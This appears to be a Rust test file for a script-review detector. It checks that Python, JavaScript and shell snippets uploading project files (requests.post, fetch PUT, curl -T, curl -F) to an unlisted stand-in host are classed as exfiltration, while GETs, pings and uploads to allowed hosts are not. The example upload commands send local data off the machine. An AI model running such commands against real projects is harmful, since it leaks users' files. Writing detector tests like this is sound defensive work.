//! The project's files sent to a host no list vouches for (issue 17, recall50 part 2): a
//! request body, an uploaded file (`curl -T`, `curl -F name=@file`, `data=open(...)`, a
//! file read whole as a `fetch` body) carrying what the script read from the project is its
//! data taken off the machine: dangerous. The twins stay what they were: a GET, or a request
//! carrying no file content, to the same host is a contact (suspicious); the same upload to
//! an allowed host or to this machine is clean.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh};
use Verdict::{Clean, Dangerous, Suspicious};

const HOST: &str = "https://share.example-lab.net/drop";

#[test]
fn the_projects_files_sent_to_an_unlisted_host_are_exfiltration() {
    let py = |call: &str| {
        format!(
            "import requests\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parent\n\n{call}\nprint(\"synced\")\n"
        )
    };
    let js = |call: &str| {
        format!(
            "const fs = require('node:fs');\nconst path = require('node:path');\n\nconst ROOT = path.resolve(__dirname);\n{call}\nconsole.log('synced');\n"
        )
    };
    let sh = |cmd: &str| format!("#!/usr/bin/env bash\nset -euo pipefail\n{cmd}\necho synced\n");
    rows(&[
        (
            Py,
            py(&format!(
                "requests.post(\"{HOST}/qc\", data=open(ROOT / \"results\" / \"summary.tsv\", \"rb\"))"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            py(&format!(
                "journal = (ROOT / \"books\" / \"2026.journal\").read_bytes()\nrequests.put(\"{HOST}/books\", data=journal)"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            py(&format!(
                "sheet = (ROOT / \"config\" / \"samples.tsv\").read_text()\nrequests.post(\"{HOST}/ingest\", json={{\"sheet\": sheet, \"run\": 42}})"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            js(&format!(
                "const body = fs.readFileSync(path.join(ROOT, 'results', 'calls', 'b1.vcf.gz'));\nfetch('{HOST}/calls/b1.vcf.gz', {{ method: 'PUT', body }});"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh(&format!(
                "curl -sS -T results/calls/b1.vcf.gz \"{HOST}/b1/\""
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh(&format!(
                "curl -sS -F \"sheet=@config/samples.tsv\" \"{HOST}/ingest\""
            )),
            Dangerous,
            "exfiltration",
        ),
        // Twins: a GET, a request carrying nothing read from a file, a download.
        (
            Py,
            py(&format!(
                "requests.get(\"{HOST}/status\", params={{\"run\": \"42\"}}, timeout=10)"
            )),
            Suspicious,
            "network",
        ),
        (
            Py,
            py(&format!(
                "requests.post(\"{HOST}/ping\", json={{\"status\": \"done\"}}, timeout=10)"
            )),
            Suspicious,
            "network",
        ),
        (
            Js,
            js(&format!(
                "fetch('{HOST}/ping', {{ method: 'POST', body: JSON.stringify({{ status: 'done' }}) }});"
            )),
            Suspicious,
            "network",
        ),
        (
            Sh,
            sh(&format!(
                "curl -fsS \"{HOST}/index.json\" -o build/index.json"
            )),
            Suspicious,
            "network",
        ),
        // The same upload to an allowed host, or to this machine.
        (
            Py,
            py(
                "requests.post(\"https://uploads.github.com/repos/acme/qc/releases/1/assets?name=summary.tsv\", data=open(ROOT / \"results\" / \"summary.tsv\", \"rb\"))",
            ),
            Clean,
            "",
        ),
        (
            Js,
            js(
                "const body = fs.readFileSync(path.join(ROOT, 'results', 'summary.tsv'));\nfetch('http://127.0.0.1:8080/ingest', { method: 'PUT', body });",
            ),
            Clean,
            "",
        ),
    ]);
}
